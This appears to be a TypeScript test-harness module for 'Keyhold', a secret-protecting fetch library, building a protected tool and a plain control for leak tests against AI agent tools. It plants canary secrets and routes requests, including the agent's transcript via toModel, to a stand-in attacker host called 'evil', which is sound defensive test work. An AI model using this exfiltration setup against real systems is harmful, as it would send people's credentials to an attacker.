import { inspect } from "node:util";
import { resolveToolConfig, secretFetch } from "@keyhold/agents";
import { createSecrets } from "@keyhold/core";
import { memory } from "@keyhold/testing";
import { Agent, getGlobalDispatcher, fetch as plainFetch, setGlobalDispatcher } from "undici";
import { type Canary, createCanary } from "../leak/encodings.ts";
import type { Tool } from "./attack.ts";
import { names, type World } from "./world.ts";

/** A tool that is being attacked, and what came out of it. */
export interface Subject {
  readonly tool: Tool;
  readonly canaries: readonly Canary[];
  readonly said: string[];
  readonly traced: string[];
  close(): Promise<void>;
}

/** A value of letters and digits alone. */
function createToken(): Canary {
  const { halves, parts } = createCanary();
  return { text: halves.join(""), halves, parts };
}

const show = (something: unknown): string =>
  typeof something === "string"
    ? something
    : `${String(something)}\n${inspect(something, { depth: 8, showHidden: true, maxStringLength: null })}`;

type Parts = Pick<Tool, "key" | "token" | "fetch" | "grant"> & {
  readonly modelKey: string;
  readonly configured: Tool["configured"];
};

/** A file with one tool, and a key in it: a reference, or the value. */
const toolFile = (world: World, key: string) => ({
  tools: [
    {
      name: "items",
      method: "GET",
      url: `https://${names.api}:${world.api.port}/v1/items/{id}`,
      env: { ITEMS_KEY: key },
      headers: { "x-api-key": key },
    },
  ],
});

function createTool(
  world: World,
  { key, token, fetch, grant, modelKey, configured }: Parts,
  said: string[],
  traced: string[],
): Tool {
  const api = (path = "/v1") => `https://${names.api}:${world.api.port}${path}`;
  return {
    world,
    key,
    token,
    fetch,
    grant,
    api,
    configured,
    model: { url: `https://${names.evil}:${world.model.port}/v1`, key: modelKey },
    evil: (path = "/") => `https://${names.evil}:${world.evil.port}${path}`,
    config: { name: "search", url: api(), apiKey: key, headers: { authorization: `Bearer ${key}` }, fetch },
    ask: (path, init) => fetch(api(path), { ...init, headers: { authorization: `Bearer ${key}`, ...init?.headers } as never }),
    say: (something) => {
      said.push(show(something));
    },
    async tell(response) {
      said.push(`${response.status} ${response.statusText} ${response.url}`, show([...response.headers]));
      said.push(Buffer.from(await response.arrayBuffer()).toString("latin1"));
    },
    trace: (something) => {
      traced.push(show(something));
    },
  };
}

/** Keyhold's. The attacker's host has a rule too, for a key of its own, so that it can be reached. */
async function keyhold(world: World): Promise<Subject> {
  const canaries = [createCanary(), createToken(), createToken(), createToken()] as const;
  const [key, token, signing, session] = canaries;
  const secrets = createSecrets({ providers: { test: memory() } });
  await secrets.put("test://key", key.text);
  await secrets.put("test://token", token.text);
  const aws = { accessKeyId: "AKIDEXAMPLE", secretAccessKey: signing.text, sessionToken: session.text };
  await secrets.put("test://aws", JSON.stringify(aws));
  await secrets.put("test://other", "not-a-canary");
  await secrets.put("test://model", "not-a-canary-either");
  const shared = { addresses: ["127.0.0.1"], host: names.api, port: world.api.port, placeholderInBody: "keep" as const };
  const place = { path: "/v1", methods: ["GET", "POST"], ...shared };
  const traced: string[] = [];
  const said: string[] = [];
  const { ca, lookup } = world;
  const base = secretFetch({
    secrets,
    ca,
    lookup,
    unlisted: "send",
    onEvent: (event) => traced.push(inspect(event, { depth: 8 })),
    allow: [
      ...["test://key", "test://token"].flatMap((reference) => [
        { reference, ...place, header: "authorization" },
        { reference, ...place, header: "x-api-key" },
        { reference, ...place, header: "x-basic", as: "basic" as const },
        { reference, ...place, query: "key" },
      ]),
      { reference: "test://aws", ...place, aws: { service: "sts", region: "eu-west-1" } },
      ...["authorization", "x-api-key"].map((header) => ({
        reference: "test://model",
        host: names.evil,
        port: world.model.port,
        addresses: ["127.0.0.1"],
        header,
        placeholderInBody: "keep" as const,
      })),
      { reference: "test://other", host: names.evil, port: world.evil.port, addresses: ["127.0.0.1"], header: "authorization" },
    ],
  });
  const grant: Tool["grant"] = ({ references = ["test://key"], ...limits } = {}) => {
    const made = base.grant({ run: "run-1", agent: "researcher", tool: "search", references, ...limits });
    return { fetch: made.fetch, key: made.fetch.placeholder(references[0] as string), revoke: made.revoke };
  };
  const items = resolveToolConfig(toolFile(world, "test://key"), {
    secrets,
    ca,
    lookup,
    unlisted: "send",
    allow: (rule) => ({ ...rule, addresses: ["127.0.0.1"] }),
  });
  const parts = {
    configured: items.tools[0] as unknown as Tool["configured"],
    key: base.placeholder("test://key"),
    token: base.placeholder("test://token"),
    modelKey: base.placeholder("test://model"),
    fetch: base,
    grant,
  };
  const tool = createTool(world, parts, said, traced);
  Object.assign(tool.config, { aws: base.placeholder("test://aws") });
  return {
    tool,
    canaries,
    said,
    traced,
    async close() {
      await base.close();
      await items.close();
      await secrets.close();
    },
  };
}

/** The control: plain `fetch`, and the key where Keyhold has a placeholder. */
async function plain(world: World): Promise<Subject> {
  const canaries = [createCanary(), createToken()] as const;
  const [key, token] = canaries;
  const before = getGlobalDispatcher();
  const { ca, lookup } = world;
  const agent = new Agent({ connect: { ca, lookup } });
  setGlobalDispatcher(agent);
  const traced: string[] = [];
  const said: string[] = [];
  const fetch = plainFetch as unknown as Tool["fetch"];
  const grant = () => ({ fetch, key: key.text, revoke: () => {} });
  const configured = { config: toolFile(world, key.text).tools[0] as Tool["configured"]["config"], fetch };
  const tool = createTool(
    world,
    { key: key.text, token: token.text, modelKey: "not-a-canary", configured, fetch, grant },
    said,
    traced,
  );
  Object.assign(tool.config, { aws: token.text });
  return {
    tool,
    canaries,
    said,
    traced,
    async close() {
      setGlobalDispatcher(before);
      await agent.destroy();
    },
  };
}

export const subjects: Readonly<Record<"keyhold" | "plain", (world: World) => Promise<Subject>>> = { keyhold, plain };

/** Sends the transcript to the model, as the agent would with each turn. */
export async function toModel(world: World, said: readonly string[]): Promise<void> {
  const agent = new Agent({ connect: { ca: world.ca, lookup: world.lookup } });
  const content = said.map((text) => ({ role: "tool", content: text }));
  const body = JSON.stringify({ model: "stub", messages: content });
  const response = await plainFetch(`https://${names.evil}:${world.model.port}/chat`, {
    method: "POST",
    body,
    dispatcher: agent,
  });
  await response.text();
  await agent.destroy();
}
